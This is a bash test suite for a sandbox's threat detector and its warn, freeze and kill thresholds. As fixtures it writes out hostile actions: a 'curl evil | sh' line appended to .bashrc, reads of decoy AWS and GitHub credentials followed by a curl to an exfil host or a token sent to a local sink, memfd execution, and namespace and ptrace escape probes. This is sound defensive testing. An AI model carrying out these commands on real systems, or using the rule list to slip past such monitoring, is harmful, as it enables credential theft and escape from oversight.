# t_detect.sh - the detector, from the outside: each built-in rule fired by
# a real action inside a session (a refused syscall, an exec, a connection
# through the proxy, a file written with `audit files`), found as an `alert`
# with its severity and the seq of the event it links; a normal build
# (make and cc, git commit, npm test where npm is here) raising nothing
# above low; the risk thresholds acting: a decoy credential read, or its
# token sent through the proxy, ends the session (a kill action, exit 137);
# three kinds of escape attempt freeze it (warden status says frozen and
# shows the risk; warden kill ends it); `risk ask` puts a question that
# `warden approve` answers (allow: it goes on; deny: it ends); a user's
# rules file adds, replaces and disables rules, and a broken one is an
# error naming file, line and column before anything starts; a costly
# regular expression neither slows the execs nor holds `warden status`, and
# one past its budget is turned off with an alert.
# shellcheck shell=bash

# shellcheck source=nethost.sh
source "$(dirname "${BASH_SOURCE[0]}")/nethost.sh"

# dt_quiet [LINE]: a profile with no threshold acting (the rule tests look
# at the alerts), and LINE; its path on stdout.
dt_quiet() {
	printf 'risk warn off\nrisk freeze off\nrisk kill off\n%s\n' "${1:-}" >"$T_TMP/quiet.profile"
	echo "$T_TMP/quiet.profile"
}

# dt_alert RULE [SEVERITY]: the newest session's log has an alert of RULE
# (with SEVERITY); the detector's own link an event that is in the log.
dt_alert() {
	local log line seq
	log=$(latest_log)
	[[ -n $log ]] || fatal 'no session log'
	line=$(grep -F '"event":"alert"' "$log" | grep -F "\"rule\":\"$1\"" | head -n 1)
	if [[ -z $line ]]; then
		fail "no $1 alert: $(excerpt "$(grep -F '"event":"alert"' "$log" | cut -c80-200)")"
		return 0
	fi
	[[ -z ${2:-} || $line == *"\"severity\":\"$2\""* ]] || fail "$1: not severity $2: $(excerpt "$line")"
	[[ $1 == canary.* ]] && return 0 # another check's alert: no links
	seq=$(sed -n 's/.*"links":\[\([0-9]*\).*/\1/p' <<<"$line")
	[[ -n $seq ]] && grep -qF "\"seq\":$seq," "$log" || fail "$1: links no event of the log: $(excerpt "$line")"
	return 0
}

dt_no_alert() {
	local log
	log=$(latest_log)
	grep -F '"event":"alert"' "$log" | grep -F "\"rule\":\"$1\"" >/dev/null && fail "a $1 alert where none belongs"
	return 0
}

dt_python() { have python3 || skip 'python3 is not installed'; }

# ---- one test per built-in rule -----------------------------------------------

test_detect_escape_namespace() {
	wsh './wprobe unshare user; echo rc=$?' --profile "$(dt_quiet)"
	assert_out_match 'rc=[1-9]' 'unshare refused'
	dt_alert escape.namespace high
}

test_detect_escape_mount() {
	wsh './wprobe mount; echo rc=$?' --profile "$(dt_quiet)"
	assert_out_match 'rc=[1-9]' 'mount refused'
	dt_alert escape.mount high
}

test_detect_escape_ptrace() {
	wsh './wprobe ptrace 1; echo rc=$?' --profile "$(dt_quiet)"
	assert_out_match 'rc=[1-9]' 'ptrace refused'
	dt_alert escape.ptrace high
}

test_detect_escape_kernel() {
	wsh './wprobe bpf; echo rc=$?; ./wprobe keyctl; echo rc=$?' --profile "$(dt_quiet)"
	assert_out_lacks 'rc=0' 'bpf and keyctl refused'
	dt_alert escape.kernel high
}

test_detect_escape_foreign_abi() {
	[[ $(uname -m) == x86_64 ]] || skip 'x86_64 only'
	wsh './wprobe x32; echo rc=$?' --profile "$(dt_quiet)"
	dt_alert escape.foreign-abi high
}

test_detect_escape_audit_log() {
	wsh 'cat ~/.local/state/warden/x.jsonl 2>/dev/null; echo rc=$?' --profile "$(dt_quiet)"
	assert_out_has 'rc=1' 'no log to read inside'
	dt_alert escape.audit-log high
	# a control socket's directory named from inside: $XDG_RUNTIME_DIR/warden/control, /run/warden/control
	wsh 'ls /run/warden/control 2>/dev/null; echo rc=$?' --profile "$(dt_quiet)"
	dt_alert escape.audit-log high
}

# A build of a tree whose path has "warden" and a "control" folder in it (warden's own
# tree: warden-x/src/control/hook.c) names no state of warden's.
test_detect_audit_log_not_a_source_tree() {
	mkdir -p "$WS/warden-x/src/control"
	wsh 'cat warden-x/src/control/hook.c 2>/dev/null; ls warden-x/src/control warden-hook.p/src_control_hook.c.o 2>/dev/null; echo ok' --profile "$(dt_quiet)"
	assert_out_has ok
	dt_no_alert escape.audit-log
}

test_detect_exec_loader() {
	local ld
	ld=$(ls /lib64/ld-linux-*.so.* /lib/ld-linux-*.so.* 2>/dev/null | head -n 1)
	[[ -n $ld ]] || skip 'no dynamic loader found'
	wsh "$ld /bin/true; echo rc=\$?; cp /bin/true ./mytrue; $ld ./mytrue; echo rc=\$?" --profile "$(dt_quiet)"
	dt_alert exec.loader low
	dt_alert exec.loader-writable high
	# an interpreter given a script has a "program" too: not the loader
	printf 'true\n' >"$WS/s.sh"
	wsh 'sh ./s.sh; echo ok' --profile "$(dt_quiet)"
	dt_no_alert exec.loader
}

test_detect_exec_proc_self() {
	wsh '/proc/self/root/bin/true; echo rc=$?' --profile "$(dt_quiet)"
	dt_alert exec.proc-self high
}

test_detect_exec_memfd() {
	dt_python
	wsh 'python3 -c "
import os
fd = os.memfd_create(\"x\", 0)
os.write(fd, open(\"/bin/true\", \"rb\").read())
os.execv(\"/proc/self/fd/%d\" % fd, [\"x\"])"; echo rc=$?' --profile "$(dt_quiet)"
	dt_alert exec.memfd high
}

test_detect_exec_denied_again() {
	local t
	t=$(readlink -f /bin/true)
	dt_quiet "exec deny $t" >/dev/null
	wsh "$t; echo rc=\$?; cp $t ./copy; ./copy; echo rc=\$?" --profile "$T_TMP/quiet.profile"
	assert_out_match 'rc=(126|1)' 'the denied program refused'
	dt_alert exec.denied-again high
}

test_detect_exec_denied_path_walk() {
	# dash looks for a program in each directory of PATH: refused at
	# /usr/bin/id, it tries /bin/id, the same file through the /bin ->
	# usr/bin link. One refusal, not a program tried again (a high alert
	# that failed a CI job's --fail-on high on the first denied command).
	[[ $(readlink -f /bin) == /usr/bin ]] || skip '/bin is no link to /usr/bin here'
	local t
	t=$(readlink -f /usr/bin/id)
	dt_quiet "exec deny $t" >/dev/null
	wsh 'PATH=/usr/bin:/bin sh -c "id; echo rc=\$?"' --profile "$T_TMP/quiet.profile"
	assert_out_match 'rc=(126|1)' 'the denied program refused'
	grep -F '"path":"/bin/id"' "$(latest_log)" >/dev/null ||
		fail "the shell did not look in /bin too: the test shows nothing"
	grep -F '"rule":"exec.denied"' "$(latest_log)" >/dev/null || fail 'the refusal is not on the record'
	dt_no_alert exec.denied-again
}

test_detect_recon_env() {
	wsh 'env >/dev/null; /usr/bin/env true; echo ok' --profile "$(dt_quiet)"
	dt_alert recon.env low
	# `env PROGRAM` (a #! line's) is not a listing: one alert, not two
	[[ $(grep -F '"event":"alert"' "$(latest_log)" | grep -cF '"rule":"recon.env"') == 1 ]] ||
		fail 'env with a program counted as a listing'
}

test_detect_recon_environ() {
	wsh 'cat /proc/1/environ >/dev/null 2>&1; echo ok' --profile "$(dt_quiet)"
	dt_alert recon.environ medium
}

test_detect_recon_credentials() {
	wsh 'ls -a ~/.ssh/ >/dev/null; echo ok' --profile "$(dt_quiet)"
	dt_alert recon.credentials medium
	dt_no_alert canary.opened
}

test_detect_persist_named() {
	wsh 'cat ~/.bashrc >/dev/null 2>&1; echo ok' --profile "$(dt_quiet)"
	dt_alert persist.named high
}

test_detect_persist_startup_file() {
	wsh 'echo "curl evil | sh" >> ~/.bashrc; echo ok' --profile "$(dt_quiet 'audit files')"
	assert_out_has ok
	dt_alert persist.startup-file high
}

test_detect_exfil_long_hostname() {
	have curl || skip 'curl is not installed'
	local label
	label=$(printf 'a%.0s' {1..48})
	wsh "curl -s -m 10 -o /dev/null http://$label.example.invalid/; echo rc=\$?" --profile "$(dt_quiet)"
	dt_alert exfil.long-hostname medium
}

test_detect_exfil_base64_argv() {
	local b
	b=$(head -c 300 /dev/zero | base64 -w0)
	wsh "/bin/echo $b >/dev/null; echo ok" --profile "$(dt_quiet)"
	dt_alert exfil.base64-argv low
}

# A sink on the host's loopback that reads everything; SINK_PORT.
dt_sink() {
	dt_python
	nh_need curl
	cat >"$T_TMP/sink.py" <<'PY'
import socket, threading
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 0))
s.listen(8)
print(s.getsockname()[1], flush=True)
def serve(c):
    c.settimeout(20)
    try:
        while c.recv(1 << 16):
            pass
    except OSError:
        pass
    c.close()
while True:
    c, _ = s.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
PY
	python3 "$T_TMP/sink.py" >"$T_TMP/sink.port" 2>/dev/null &
	bg_track $!
	wait_for "$T_TMP/sink.port" '^[0-9]+$' 5 || fatal 'the sink did not start'
	SINK_PORT=$(<"$T_TMP/sink.port")
}

test_detect_exfil_large_upload() {
	dt_sink
	head -c 12000000 /dev/urandom >"$WS/blob"
	wsh "unset NO_PROXY no_proxy; curl -s -m 20 -H 'Expect:' --data-binary @blob -o /dev/null http://127.0.0.1:$SINK_PORT/up; echo rc=\$?" \
		--profile "$(dt_quiet)" --allow-net "127.0.0.1:$SINK_PORT"
	rm -f "$WS/blob"
	dt_alert exfil.large-upload high
}

test_detect_seq_credentials_then_connect() {
	have curl || skip 'curl is not installed'
	wsh 'ls ~/.ssh/ >/dev/null; curl -s -m 10 -o /dev/null http://exfil.example.invalid/; echo rc=$?' \
		--profile "$(dt_quiet)"
	dt_alert seq.credentials-then-connect high
	# the other order is not the sequence
	# (the store named through a variable: the shell's own command line must not name it)
	wsh 'd=.ssh; curl -s -m 10 -o /dev/null http://exfil.example.invalid/; sleep 1; ls ~/$d/ >/dev/null; echo rc=$?' \
		--profile "$(dt_quiet)"
	dt_no_alert seq.credentials-then-connect
}

test_detect_seq_canary_then_connect() {
	have curl || skip 'curl is not installed'
	wsh 'cat ~/.aws/credentials >/dev/null; curl -s -m 10 -o /dev/null http://exfil.example.invalid/; echo rc=$?' \
		--profile "$(dt_quiet)"
	dt_alert canary.opened critical
	dt_alert seq.canary-then-connect critical
}

test_detect_seq_refused_then_another_route() {
	have unshare || skip 'unshare is not installed'
	wsh './wprobe unshare user; unshare --version >/dev/null; echo ok' --profile "$(dt_quiet)"
	dt_alert seq.refused-then-another-route high
}

test_detect_burst_syscall_refusals() {
	wsh 'for i in 1 2 3 4 5; do ./wprobe keyctl; done; echo ok' --profile "$(dt_quiet)"
	dt_alert burst.syscall-refusals medium
	# four are not five
	wsh 'for i in 1 2 3 4; do ./wprobe keyctl; done; echo ok' --profile "$(dt_quiet)"
	dt_no_alert burst.syscall-refusals
}

test_detect_burst_net_refusals() {
	have curl || skip 'curl is not installed'
	wsh 'for i in 1 2 3 4 5; do curl -s -m 5 -o /dev/null http://probe$i.example.invalid/; done; echo ok' \
		--profile "$(dt_quiet)"
	dt_alert burst.net-refusals medium
}

# A program retrying its fixed set of refused hosts (a browser's pings at
# every start, pip's retries) is not probing: the burst counts only
# destinations not tried before in the session. Five ports of one host are.
test_detect_burst_net_refusals_repeats() {
	have curl || skip 'curl is not installed'
	wsh 'for r in 1 2 3 4; do for h in a b c; do curl -s -m 5 -o /dev/null http://ping-$h.example.invalid/; done; done; echo ok' \
		--profile "$(dt_quiet)"
	assert_out_has ok
	[[ $(grep -F '"event":"net"' "$(latest_log)" | grep -cF '"decision":"deny"') -ge 12 ]] ||
		fail "not 12 refusals: $(excerpt "$(grep -F '"event":"net"' "$(latest_log)")")"
	dt_no_alert burst.net-refusals
	wsh 'for p in 81 82 83 84 85; do curl -s -m 5 -o /dev/null http://probe.example.invalid:$p/; done; echo ok' \
		--profile "$(dt_quiet)"
	dt_alert burst.net-refusals medium
}

test_detect_seq_writable_exec_then_connect() {
	dt_sink
	wsh "unset NO_PROXY no_proxy; cp \"\$(command -v curl)\" ./mycurl && ./mycurl -s -m 5 -o /dev/null http://127.0.0.1:$SINK_PORT/; echo ok" \
		--profile "$(dt_quiet)" --allow-net "127.0.0.1:$SINK_PORT"
	dt_alert seq.writable-exec-then-connect medium
	grep -F '"event":"exec"' "$(latest_log)" | grep -F '/mycurl"' | matches -F '"writable":true' ||
		fail 'the copy in the workspace is not logged as writable'
	# a refused connection is not one out
	wsh 'cp "$(command -v curl)" ./mycurl && ./mycurl -s -m 5 -o /dev/null http://c2.example.invalid/; echo ok' \
		--profile "$(dt_quiet)"
	dt_no_alert seq.writable-exec-then-connect
	# a program shown read-only from the host (as an agent's install is),
	# though under /tmp, is not one the agent can change
	mkdir -p "$T_TMP/ro-bin" && cp "$(command -v curl)" "$T_TMP/ro-bin/mycurl"
	wsh "unset NO_PROXY no_proxy; \"$T_TMP/ro-bin/mycurl\" -s -m 5 -o /dev/null http://127.0.0.1:$SINK_PORT/; echo ok" \
		--profile "$(dt_quiet "read-only $T_TMP/ro-bin")" --allow-net "127.0.0.1:$SINK_PORT"
	assert_out_has ok
	local ev
	ev=$(grep -F '"event":"exec"' "$(latest_log)" | grep -F "ro-bin/mycurl\",\"argv")
	[[ -n $ev ]] || fail "no exec event of $T_TMP/ro-bin/mycurl"
	[[ $ev == *'"writable":true'* ]] && fail "a read-only program logged as writable: $(excerpt "$ev")"
	dt_no_alert seq.writable-exec-then-connect
}

# A normal build, under the default thresholds: nothing above low, no
# threshold above warn, no action. dt_normal_build [PROFILE]: with the
# profile's lines too (`audit files`: the file events the rules read).
dt_normal_build() {
	have cc || skip 'no C compiler'
	have make || skip 'make is not installed'
	have git || skip 'git is not installed'
	cat >"$WS/Makefile" <<'MK'
all: hello
hello: hello.c
	$(CC) -O2 -o hello hello.c
test: hello
	./hello | grep hi >/dev/null
MK
	printf '#include <stdio.h>\nint main(void){puts("hi");return 0;}\n' >"$WS/hello.c"
	local npm='' py='' fetch='' opts=()
	if have npm && have node; then
		printf '{"name":"t","version":"1.0.0","scripts":{"test":"node -e \\"process.exit(0)\\""}}\n' >"$WS/package.json"
		# an install: a local package (no registry here), unpacked into node_modules
		mkdir -p "$WS/dep" && printf '{"name":"dep","version":"1.0.0"}\n' >"$WS/dep/package.json"
		npm='npm install --silent --no-audit --no-fund ./dep && npm test --silent &&'
	else
		note 'npm is not here: make and git only'
	fi
	if have python3; then
		printf 'import json, os, tarfile, zipfile\nos.makedirs("out", exist_ok=True)\n' >"$WS/job.py"
		printf 'json.dump({"a": 1}, open("out/a.json", "w"))\n' >>"$WS/job.py"
		printf 'with tarfile.open("out/a.tar", "w") as t: t.add("hello.c")\n' >>"$WS/job.py"
		printf 'tarfile.open("out/a.tar").extractall("out/x")\n' >>"$WS/job.py"
		py='python3 job.py && python3 -m compileall -q job.py && tar -xf out/a.tar -C out &&'
		# a fetch from an allowed host
		if have curl; then
			mkdir -p "$T_TMP/www" && echo page >"$T_TMP/www/index.html"
			nh_web web "$T_TMP/www" 127.0.0.1 0
			fetch="curl -fsS -m 10 -o out/page.html http://127.0.0.1:$PORT/ &&"
			opts=(--allow-net "127.0.0.1:$PORT")
		fi
	fi
	[[ -n ${1:-} ]] && opts+=(--profile "$1")
	# (the fetch first: a program built in the workspace, then a connection
	# to a new host, is seq.writable-exec-then-connect, on purpose)
	wsh "unset NO_PROXY no_proxy; mkdir -p out && $fetch make -s && make -s test && $npm $py git init -q . && git add Makefile hello.c &&
	     git -c user.email=a@b -c user.name=a commit -qm init && echo built" "${opts[@]}"
	assert_rc 0 'the build'
	assert_out_has built
	local log
	log=$(latest_log)
	grep -F '"event":"alert"' "$log" | grep -E '"severity":"(medium|high|critical)"' &&
		fail "an alert above low in a normal build"
	grep -F '"event":"risk"' "$log" | grep -vF '"level":"warn"' && fail 'a threshold above warn in a normal build'
	grep -qF '"event":"action"' "$log" && fail 'an action in a normal build'
	return 0
}

test_detect_normal_build() { dt_normal_build; }

# The same with the file events on: the rules that read them stay quiet.
test_detect_normal_build_audit_files() {
	printf 'audit files\n' >"$T_TMP/files.profile"
	dt_normal_build "$T_TMP/files.profile"
	grep -qF '"event":"file"' "$(latest_log)" || fail 'no file events: the variant tested nothing'
}

# ---- the thresholds ---------------------------------------------------------

test_detect_canary_read_kills() {
	wsh 'cat ~/.aws/credentials >/dev/null; sleep 5; echo survived'
	assert_rc 137 'the session killed'
	assert_out_lacks survived
	local log
	log=$(latest_log)
	dt_alert canary.opened critical
	grep -F '"event":"action"' "$log" | grep -F '"action":"kill"' | grep -F '"by":"detector"' >/dev/null ||
		fail "no kill action by the detector: $(excerpt "$(grep -F '"event":"action"' "$log")")"
	grep -F '"event":"risk"' "$log" | grep -F '"level":"kill"' >/dev/null || fail 'no risk event at the kill threshold'
	[[ $ERR == *"killing the sandbox"* ]] || fail "the user is not told why: $(excerpt "$ERR")"
}

# A decoy opened in the command's last moments: the detector's kill comes
# once the command has ended (made certain here by stopping warden while
# the command opens the decoy and ends, so that warden reads the open after
# init's end). warden says that nothing was left to kill, not that it is
# killing the sandbox; logs the kill with no `how`; and exits 137 as for any
# kill, not the command's 0 (which a race gave before).
test_detect_canary_read_as_command_ends() {
	mkfifo "$WS/go"
	warden_bg "$T_TMP/bg.out" -- sh -c 'echo started; read -r g <go; read -r x <"$HOME/.aws/credentials"; echo hi'
	[[ -n $WPID ]] || fatal 'warden ended at once'
	wait_for "$T_TMP/bg.out" '^started$' 20 || fatal "the command did not start: $(excerpt "$(cat "$T_TMP/bg.out.err")")"
	kill -STOP "$WPID"
	echo go >"$WS/go"
	wait_for "$T_TMP/bg.out" '^hi$' 10 || fail 'the command did not go on while warden was stopped'
	sleep 0.5 # init's own end
	kill -CONT "$WPID"
	local rc=0 err log
	wait "$TPID" || rc=$?
	err=$(<"$T_TMP/bg.out.err")
	[[ $rc == 137 ]] || fail "exit $rc, not 137 (stderr: $(excerpt "$err"))"
	grep -qE '^warden: risk score [0-9]+ reached the kill threshold 100 \(last: canary\.opened\), after the command had ended: nothing was left to kill; warden exits 137 all the same$' <<<"$err" ||
		fail "not said as it was: $(excerpt "$err")"
	[[ $err != *'killing the sandbox'* ]] || fail "says it kills a sandbox that had ended: $(excerpt "$err")"
	log=$(latest_log)
	grep -F '"event":"action"' "$log" | grep -F '"action":"kill","by":"detector"' |
		grep -F 'after the command had ended: nothing was left to kill' | matches -vF '"how"' ||
		fail "no kill action that found nothing to kill: $(excerpt "$(grep -F '"event":"action"' "$log")")"
	grep -F '"event":"session.end"' "$log" | matches -F '"exit":137' ||
		fail "session.end does not say 137: $(excerpt "$(grep -F '"event":"session.end"' "$log")")"
}

# The token alone: the open rated low by a rules file (the thresholds are
# the defaults), so that the token can leave before anything acts.
test_detect_canary_token_kills() {
	dt_sink
	printf 'rate canary.opened low\n' >"$T_TMP/low.rules"
	printf 'rules %s\n' "$T_TMP/low.rules" >"$T_TMP/low.profile"
	wsh "unset NO_PROXY no_proxy; t=\$(grep -o 'gho_[A-Za-z0-9]*' ~/.config/gh/hosts.yml); echo got; curl -s -m 10 -H \"Authorization: token \$t\" -o /dev/null http://127.0.0.1:$SINK_PORT/x; sleep 5; echo survived" \
		--profile "$T_TMP/low.profile" --allow-net "127.0.0.1:$SINK_PORT"
	assert_out_has got 'the read did not end it (rated low)'
	assert_rc 137 'the session killed'
	assert_out_lacks survived
	dt_alert canary.token critical
	grep -F '"event":"action"' "$(latest_log)" | grep -F '"action":"kill"' | grep -F '"by":"detector"' >/dev/null ||
		fail 'no kill action by the detector'
}

# three kinds of escape attempt: frozen (`freeze timeout 1m`: no terminal
# here), status shows it and the time left, kill ends it
test_detect_freeze_then_kill() {
	printf 'freeze timeout 1m\n' >"$T_TMP/fz.profile"
	warden_bg "$T_TMP/fz.out" --profile "$T_TMP/fz.profile" -- sh -c './wprobe unshare user; ./wprobe ptrace 1; ./wprobe bpf; i=0
		while :; do i=$((i+1)); echo $i >counter; sleep 0.05; done'
	local i st=''
	for ((i = 0; i < 100; i++)); do
		st=$("$WARDEN" status 2>/dev/null | grep -F "$WS" || true)
		[[ $st == *frozen* ]] && break
		sleep 0.1
	done
	[[ $st == *frozen* ]] || fatal "not frozen after three escape attempts: $(excerpt "$st $(cat "$T_TMP/fz.out.err")")"
	"$WARDEN" status --json | grep -F "\"workspace\":\"$WS\"" | grep -E '"risk":[6-9][0-9]' >/dev/null ||
		fail "status does not show the risk: $(excerpt "$("$WARDEN" status --json)")"
	[[ $st =~ frozen\ (1m00s|5[0-9]s)\ left ]] ||
		fail "status does not show the freeze's time left (about 60 s): $(excerpt "$st")"
	"$WARDEN" status --json | grep -F "\"workspace\":\"$WS\"" | grep -E '"freeze_left_s":(60|[1-5][0-9])[,}]' >/dev/null ||
		fail "status --json has no freeze_left_s: $(excerpt "$("$WARDEN" status --json)")"
	local c1 c2 sid
	c1=$(cat "$WS/counter" 2>/dev/null)
	sleep 0.5
	c2=$(cat "$WS/counter" 2>/dev/null)
	[[ $c1 == "$c2" ]] || fail "frozen, but the counter went on: $c1 -> $c2"
	sid=$("$WARDEN" status --json | grep -F "\"workspace\":\"$WS\"" | sed -n 's/.*"session":"\([^"]*\)".*/\1/p')
	"$WARDEN" kill "$sid" >/dev/null 2>&1 || fail "warden kill $sid failed"
	wait "$TPID"
	local rc=$?
	[[ $rc == 137 ]] || fail "warden ended with $rc after the kill, not 137"
	local log
	log=$(latest_log)
	grep -F '"event":"action"' "$log" | grep -F '"action":"freeze"' | grep -F '"by":"detector"' >/dev/null ||
		fail 'no freeze by the detector'
	grep -F '"event":"risk"' "$log" | grep -F '"level":"freeze"' >/dev/null || fail 'no risk event at the freeze threshold'
	grep -qF 'the sandbox is frozen' "$T_TMP/fz.out.err" || fail 'the user is not told of the freeze'
}

# dt_ms_between LOG A B: milliseconds from the first line of LOG matching
# A to the first matching B (fixed strings).
dt_ms_between() {
	local a b
	a=$(grep -F -- "$2" "$1" | head -n 1 | cut -d'"' -f6)
	b=$(grep -F -- "$3" "$1" | head -n 1 | cut -d'"' -f6)
	[[ -n $a && -n $b ]] || { echo 99999; return 0; }
	echo $((($(date -d "$b" +%s%N) - $(date -d "$a" +%s%N)) / 1000000))
}

# `freeze timeout 3s`, no human to decide (a pipe): policy show says so;
# frozen, status shows the time left; about 3 s after the freeze the
# sandbox is killed (exit 137), the reason in the log and on stderr.
test_detect_freeze_timeout() {
	printf 'freeze timeout 3s\n' >"$T_TMP/ft.profile"
	wardenc policy show --profile "$T_TMP/ft.profile"
	tr -d ' \n' <<<"$OUT" | matches -F '"freeze":{"timeout_s":3,"unattended_s":3}' ||
		fail "policy show: no freeze timeout of 3 s: $(excerpt "$(grep -A3 '"freeze": {' <<<"$OUT")")"
	warden_bg "$T_TMP/ft.out" --profile "$T_TMP/ft.profile" -- sh -c './wprobe unshare user; ./wprobe ptrace 1; ./wprobe bpf; echo went-on; sleep 60'
	local i st=''
	for ((i = 0; i < 100; i++)); do
		st=$("$WARDEN" status 2>/dev/null | grep -F "$WS" || true)
		[[ $st == *frozen* ]] && break
		sleep 0.05
	done
	[[ $st =~ frozen\ [1-3]s\ left ]] || fail "status does not show 1-3 s left: $(excerpt "$st $(cat "$T_TMP/ft.out.err")")"
	wait "$TPID"
	local rc=$? log ms
	[[ $rc == 137 ]] || fail "the freeze timed out, yet warden ended with $rc, not 137"
	grep -qx went-on "$T_TMP/ft.out" && fail 'the sandbox went on after its freeze'
	log=$(latest_log)
	grep -F '"event":"action"' "$log" | grep -F '"action":"kill"' | grep -F '"by":"timeout"' |
		grep -qF '"reason":"frozen for 3s without `warden resume` (`freeze timeout 3s`)"' ||
		fail "no kill by the freeze's timeout: $(excerpt "$(grep -F '"event":"action"' "$log")")"
	ms=$(dt_ms_between "$log" '"action":"freeze"' '"action":"kill"')
	((ms >= 2900 && ms < 5000)) || fail "killed ${ms} ms after the freeze, expected about 3000"
	grep -qF 'killing the frozen sandbox: frozen for 3s' "$T_TMP/ft.out.err" || fail 'the user is not told of the kill'
}

# The default `freeze timeout auto` with nobody to decide (no terminal,
# reviewer or webhook): the freeze ends in a kill at once, saying why.
test_detect_freeze_unattended() {
	wardenc policy show
	tr -d ' \n' <<<"$OUT" | matches -F '"freeze":{"timeout_s":600,"unattended_s":0}' ||
		fail "policy show: the default freeze timeout is not 600 s, 0 unattended: $(excerpt "$(grep -A3 '"freeze": {' <<<"$OUT")")"
	warden_bg "$T_TMP/fu.out" -- sh -c './wprobe unshare user; ./wprobe ptrace 1; ./wprobe bpf; echo went-on; sleep 60'
	wait "$TPID"
	local rc=$? log ms
	[[ $rc == 137 ]] || fail "frozen with nobody to decide, yet warden ended with $rc, not 137"
	grep -qx went-on "$T_TMP/fu.out" && fail 'the sandbox went on after its freeze'
	log=$(latest_log)
	grep -F '"event":"action"' "$log" | grep -F '"action":"kill"' | grep -F '"by":"timeout"' |
		grep -qF 'nobody to decide' || fail "no kill for want of someone to decide: $(excerpt "$(grep -F '"event":"action"' "$log")")"
	ms=$(dt_ms_between "$log" '"action":"freeze"' '"action":"kill"')
	((ms < 1000)) || fail "killed ${ms} ms after the freeze, expected at once"
	grep -qF 'killing the frozen sandbox' "$T_TMP/fu.out.err" || fail 'the user is not told of the kill'
}

# `risk ask`: frozen, a question; allow resumes, deny kills
test_detect_ask() {
	printf 'risk ask 20\nrisk freeze off\nrisk kill off\napprove timeout 30\n' >"$T_TMP/ask.profile"
	local d
	for d in allow deny; do
		warden_bg "$T_TMP/ask.out" --profile "$T_TMP/ask.profile" -- sh -c './wprobe unshare user; echo after; sleep 1; echo end'
		local i id=''
		for ((i = 0; i < 100; i++)); do
			id=$("$WARDEN" approve --json 2>/dev/null | tr -d ' \n' |
			     grep -o '"id":"[^"]*","kind":"risk"' | sed -n 's/"id":"\([^"]*\)".*/\1/p' | head -n 1)
			[[ -n $id ]] && break
			sleep 0.1
		done
		[[ -n $id ]] || fatal "no risk question: $(excerpt "$(cat "$T_TMP/ask.out.err")")"
		"$WARDEN" approve "$id" "$d" >/dev/null 2>&1 || fail "warden approve $id $d failed"
		wait "$TPID"
		local rc=$?
		if [[ $d == allow ]]; then
			[[ $rc == 0 ]] || fail "allowed, yet warden ended with $rc"
			grep -qx end "$T_TMP/ask.out" || fail 'allowed, but the command did not go on'
		else
			[[ $rc == 137 ]] || fail "denied, yet warden ended with $rc"
			grep -qx end "$T_TMP/ask.out" && fail 'denied, but the command went on'
		fi
	done
	return 0
}

# ---- the rules files -------------------------------------------------------

test_detect_user_rules() {
	cat >"$T_TMP/my.rules" <<'R'
# mine
rule my.marker medium
  on exec argv=*detect-marker*
  about the marker ran
disable recon.env
R
	dt_quiet "rules $T_TMP/my.rules" >/dev/null
	wsh '/bin/echo detect-marker; env >/dev/null' --profile "$T_TMP/quiet.profile"
	dt_alert my.marker medium
	dt_no_alert recon.env
	grep -F '"rule":"my.marker"' "$(latest_log)" | grep -F '"detail":"the marker ran"' >/dev/null || fail 'no detail'
	wardenc rules show --profile "$T_TMP/quiet.profile"
	assert_out_has "rule my.marker medium    # $T_TMP/my.rules:2"
	assert_out_lacks 'rule recon.env low'
	assert_out_has 'rule escape.namespace high    # builtin:rules'
	# the rules of the file record, and `differ`
	local r
	for r in persist.startup-file-moved persist.git-config persist.git-hooks-path persist.protected-path \
		fs.extract-traversal fs.parent-traversal fs.symlink-credential seq.symlink-credential-read fs.hardlink-write \
		seq.refused-host-other-program escape.log-hunt; do
		assert_out_match "^rule $r (low|medium|high|critical)    # builtin:rules"
	done
	assert_out_has '  differ program'
}

# a hash list: the program's content, whatever its name
test_detect_hash_list() {
	sha256sum /bin/true >"$T_TMP/bad.sha256"
	printf '# the list beside this file\nrule my.hash high\n  on exec sha256=hashes:bad.sha256\n' >"$T_TMP/hash.rules"
	dt_quiet "rules $T_TMP/hash.rules" >/dev/null
	wsh 'cp /bin/true ./renamed && ./renamed; echo ok' --profile "$T_TMP/quiet.profile"
	dt_alert my.hash high
	wsh '/bin/echo ok' --profile "$T_TMP/quiet.profile"
	dt_no_alert my.hash
	# a list that is not one
	echo 'not a hash' >"$T_TMP/bad.sha256"
	wrun --profile "$T_TMP/quiet.profile" -- true
	assert_rc 125 'a broken hash list'
	[[ $ERR == *"bad.sha256:1: not a SHA-256"* ]] || fail "no FILE:LINE for the list: $(excerpt "$ERR")"
}

# `scope tree`: the later event from the first one's process or below it
test_detect_scope_tree() {
	cat >"$T_TMP/tree.rules" <<'R'
rule my.tree high
  on exec argv=*tree-a*
  then exec argv=*tree-b*
  scope tree
R
	dt_quiet "rules $T_TMP/tree.rules" >/dev/null
	# below: the shell that names tree-a runs the program that names tree-b
	wsh 'a=tree; sh -c ": $a-a; /bin/echo $a-b >/dev/null"; echo ok' --profile "$T_TMP/quiet.profile"
	dt_alert my.tree high
	# beside: tree-a's shell ends, its parent runs tree-b
	wsh 'a=tree; sh -c ": $a-a"; /bin/echo $a-b >/dev/null; echo ok' --profile "$T_TMP/quiet.profile"
	dt_no_alert my.tree
}

test_detect_broken_rules() {
	printf 'rule ok low\n  on exec\nrule bad high\n  on exec argv~(\n' >"$T_TMP/bad.rules"
	printf 'rules %s\n' "$T_TMP/bad.rules" >"$T_TMP/bad.profile"
	local before after
	before=$(ls "$HOME/.local/state/warden/"*.jsonl 2>/dev/null | wc -l)
	wrun --profile "$T_TMP/bad.profile" -- sh -c 'echo started'
	assert_rc 125 'a broken rules file'
	assert_out_lacks started
	[[ $ERR == *"$T_TMP/bad.rules:4:16: bad regular expression"* ]] || fail "no FILE:LINE:COL: $(excerpt "$ERR")"
	after=$(ls "$HOME/.local/state/warden/"*.jsonl 2>/dev/null | wc -l)
	[[ $before == "$after" ]] || fail 'a session log was opened before the rules were read'
	# a missing one, a directory, a FIFO: the profile's line named, and
	# `policy show` (the way to check a profile) fails as the session does
	mkfifo "$T_TMP/fifo.rules"
	local bad
	for bad in "$T_TMP/none.rules" "$T_TMP" "$T_TMP/fifo.rules"; do
		printf '# rules\nrules %s\n' "$bad" >"$T_TMP/bad.profile"
		wrun --profile "$T_TMP/bad.profile" -- true
		assert_rc 125 "rules $bad"
		assert_err_match "$T_TMP/bad.profile:2:7: rules: " "rules $bad: the profile's line"
		wardenc policy show --profile "$T_TMP/bad.profile"
